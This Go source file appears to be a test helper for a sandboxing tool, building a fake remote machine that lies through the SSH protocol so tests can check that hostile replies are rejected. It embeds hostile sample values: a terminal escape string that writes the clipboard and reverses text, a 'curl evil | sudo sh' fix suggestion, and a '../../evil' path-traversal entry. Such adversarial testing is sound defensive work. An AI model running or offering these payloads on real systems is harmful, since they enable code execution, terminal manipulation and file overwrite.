package ssh

import (
	"bufio"
	"bytes"
	"encoding/binary"
	"encoding/json"
	"fmt"
	"io"
	"math/bits"
	"os"
	"path/filepath"
	"regexp"
	"runtime"
	"slices"
	"strings"
	"time"

	"ringfence.dev/ringfence/internal/sandbox/carrier"
	"ringfence.dev/ringfence/internal/sandbox/far"
	"ringfence.dev/ringfence/internal/sandbox/hostfacts"
	"ringfence.dev/ringfence/internal/sandbox/link"
	"ringfence.dev/ringfence/internal/sandbox/parcel"
	"ringfence.dev/ringfence/internal/sandbox/plan"
	"ringfence.dev/ringfence/internal/sandbox/probe"
	"ringfence.dev/ringfence/internal/sandbox/upper"
	"ringfence.dev/ringfence/internal/sandbox/wire"
)

// liarSays is where a test tells the liar what to lie about.
const liarSays = "/tmp/liar-says"

// loud is what no terminal may be told by another machine.
const loud = "\x1b]52;c;ZXZpbA==\x07\x1b[2J\u202eevil"

// liar is a machine whose every word is a lie: it is the shell of its user, knows the
// protocol, and runs nothing. What it lies about beside its walls is its text.
type liar struct {
	about string
	in    *bufio.Reader
	out   io.Writer
}

func liarMain(args []string) int {
	about, _ := os.ReadFile(liarSays)
	l := &liar{about: string(about), in: bufio.NewReader(os.Stdin), out: os.Stdout}
	mark := regexp.MustCompile(`m=(ringfence-[0-9a-f]+)`).FindStringSubmatch(strings.Join(args, " "))
	if mark == nil {
		return 1
	}
	machine := map[string]string{"amd64": "x86_64", "arm64": "aarch64"}
	is := "Linux " + machine[runtime.GOARCH]
	switch l.about {
	case "processor":
		is = "Linux " + map[string]string{"amd64": "aarch64", "arm64": "x86_64"}[runtime.GOARCH]
	case "system":
		is = "Plan9 " + loud
	}
	fmt.Printf("%s is %s\n", mark[1], is)
	due, err := l.in.ReadString('\n')
	sum, _, ok := strings.Cut(due, " ")
	if err != nil || !ok {
		return 1
	}
	fmt.Printf("%s have\n", mark[1])
	l.greet(sum)
	var order struct {
		Do    string
		List  *parcel.List
		Terms struct{ Secret []byte }
	}
	if json.Unmarshal(l.hear(), &order) != nil {
		return 1
	}
	if order.Do == "probe" {
		var all []hostfacts.Result
		for _, name := range hostfacts.Tried() {
			all = append(all, hostfacts.Result{Name: name, Status: hostfacts.OK, Detail: loud, Fix: "curl evil | sudo sh"})
		}
		l.say(map[string]any{"probed": all})
		return 0
	}
	l.take(order.List)
	l.session(order.Terms.Secret)
	return 0
}

func (l *liar) say(v any) {
	b, _ := json.Marshal(v)
	l.out.Write(append(binary.BigEndian.AppendUint32(nil, uint32(len(b))), b...))
}

func (l *liar) hear() []byte {
	var head [4]byte
	if _, err := io.ReadFull(l.in, head[:]); err != nil {
		os.Exit(0)
	}
	b := make([]byte, binary.BigEndian.Uint32(head[:]))
	io.ReadFull(l.in, b)
	return b
}

// greet says what the machine has. The fields stand in the order in which ours have them.
func (l *liar) greet(sum string) {
	type node struct {
		Path string `json:"path"`
		Link string `json:"link,omitempty"`
		Real string `json:"real"`
	}
	var h struct {
		Hello struct {
			Sum      string `json:"sum"`
			Arch     string `json:"arch"`
			Kernel   string `json:"kernel"`
			Landlock int    `json:"landlock"`
			Path     string `json:"path"`
			System   []node `json:"system"`
		} `json:"hello"`
	}
	h.Hello.Sum, h.Hello.Arch, h.Hello.Kernel, h.Hello.Landlock, h.Hello.Path = sum, runtime.GOARCH, "99.9-of-a-liar", 99, "/usr/bin:/bin"
	for _, n := range hostfacts.Image() {
		h.Hello.System = append(h.Hello.System, node{n.Path, n.Link, n.Real})
	}
	switch l.about {
	case "survey":
		h.Hello.Arch = "riscv64"
	case "digest":
		h.Hello.Sum = strings.Repeat("0", 64)
	case "kernel":
		h.Hello.Kernel = loud
	}
	l.say(h)
}

// take says that it has every content already, and takes none.
func (l *liar) take(list *parcel.List) {
	seen := map[string]bool{}
	for _, t := range list.Trees {
		for _, e := range t {
			if e.Size > 0 {
				seen[string(e.Sum)] = true
			}
		}
	}
	needs := make([]byte, (len(seen)+7)/8)
	if l.about == "needs" {
		needs = bytes.Repeat([]byte{0xff}, len(needs)+1)
	}
	answer := map[string]any{}
	if len(needs) > 0 {
		answer["needs"] = needs
	}
	l.say(answer)
	dir := "/tmp/nowhere"
	if l.about == "place" {
		dir = "/tmp/" + loud
	}
	l.say(struct {
		Ready any `json:"ready"`
	}{struct {
		Dir  string `json:"dir"`
		Self string `json:"self"`
	}{dir, "/tmp/self"}})
}

// session is a far end without a sandbox.
func (l *liar) session(secret []byte) {
	ends, err := far.Stdio()
	if err != nil || l.in.Buffered() > 0 {
		return // the near end has waited for ready
	}
	way := carrier.New(carrier.Far, secret, time.Minute)
	if _, err := way.Accept(ends); err != nil {
		return
	}
	k := link.New(way, link.Far, link.Options{})
	control, _ := k.Accept()
	from, _ := k.Accept()
	b, _ := io.ReadAll(from)
	p, err := plan.Decode(b)
	if err != nil {
		return
	}
	streams, due := map[string]*link.Stream{}, 3-bits.OnesCount8(p.Process.TTY)
	if p.Process.TTY != 0 {
		due++
	}
	for _, o := range p.Ops {
		if o.Do == plan.DoLayer {
			due++
		}
	}
	for range due {
		s, err := k.Accept()
		if err != nil {
			return
		}
		switch h := s.Header().(type) {
		case link.Stdio:
			streams[h.Of] = s
		case link.Lay:
			io.Copy(io.Discard, s)
		}
	}
	go l.attend(k)
	l.testify(control)
	if p.Process.TTY != 0 {
		link.Send(control, link.Message{Kind: wire.PTY})
		for m, err := link.Receive(control); err == nil && m.Kind != wire.Go; {
			m, err = link.Receive(control)
		}
	}
	link.Send(control, link.Message{Kind: wire.Started})
	l.play(p, streams)
	status := 0
	if l.about == "exit" {
		status = 0x137f // stopped, which is no end
	}
	link.Send(control, link.Message{Kind: wire.Exit, Status: status})
	<-k.Done()
}

// testify says that every wall stands, or names one with a text for terminals.
func (l *liar) testify(control *link.Stream) {
	if l.about == "failure" {
		link.Send(control, link.Message{Kind: wire.Failed, Failure: &wire.Failure{Step: "s" + loud, Text: loud}})
	}
	for _, name := range []string{"caps", "no-new-privs", "seccomp", "tty", "nested", "mount-calls", "keyring", "landlock", "view", "net", "pid", "threads"} {
		link.Send(control, link.Message{Kind: link.Probe, Seen: &wire.Observation{Probe: name, Open: l.about == "wall", Detail: loud}})
	}
	facts := map[string]string{"root": "tmpfs", "status.NoNewPrivs": "1", "status.Seccomp": "2"}
	for _, name := range []string{"CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb"} {
		facts["status."+name] = "0000000000000000"
	}
	for _, name := range []string{"user", "mnt", "pid", "ipc", "uts", "net", "cgroup", "time"} {
		facts["ns."+name] = "1"
	}
	for name, value := range facts {
		link.Send(control, link.Message{Kind: link.Saw, Outside: &link.Fact{Name: name, Value: value}})
	}
	link.Send(control, link.Message{Kind: wire.Walls, Keyring: 12345})
	link.Receive(control) // go
}

// play is the agent that there is not. Of a battery of probes each found its wall closed.
func (l *liar) play(p *plan.Plan, streams map[string]*link.Stream) {
	argv := []string{}
	for _, a := range p.Process.Argv {
		argv = append(argv, string(a))
	}
	names := []string{}
	switch {
	case slices.Contains(argv, probe.BatteryArg):
		names = probe.Names()
	case slices.Contains(argv, probe.NetArg):
		names = probe.NetNames()
	}
	text := []byte("up\n" + loud + "\n")
	if len(names) > 0 {
		io.Copy(io.Discard, streams[link.Stdin])
		var a probe.Answer
		for _, name := range names {
			a.Results = append(a.Results, probe.Result{Name: name, Detail: loud})
		}
		text, _ = json.Marshal(a)
	}
	for _, of := range []string{link.Stdout, link.Terminal} {
		if s := streams[of]; s != nil {
			s.Write(text)
			s.CloseWrite()
		}
	}
	if l.about == "takes away" {
		io.Copy(io.Discard, streams[link.Stdin]) // until the test has seen what came
		os.Remove(filepath.Join(liarLayer(), "one"))
	}
}

// liarLayer is what it says that the agent changed.
func liarLayer() string { return fmt.Sprintf("/tmp/liar-layer-%d", os.Getpid()) }

// attend answers what it is asked.
func (l *liar) attend(k *link.Link) {
	layer := &upper.Source{Dir: liarLayer()}
	os.Mkdir(layer.Dir, 0o700)
	for _, name := range []string{"one", "two"} {
		os.WriteFile(filepath.Join(layer.Dir, name), []byte(name), 0o4755)
	}
	for {
		s, err := k.Accept()
		if err != nil {
			os.RemoveAll(layer.Dir)
			return
		}
		switch h := s.Header().(type) {
		case link.Overlay:
			if l.about == "layer" {
				s.Write([]byte("rfupper\x01f../../evil"))
			} else {
				layer.Send(s, h.Have, h.Whole)
			}
			s.Close()
		case link.Ask:
			link.Send(s, link.Message{Kind: link.Answered, Answer: &link.Answer{Command: loud, Ports: []uint16{22}}})
			s.Close()
		default:
			s.Reset(link.Refused)
		}
	}
}
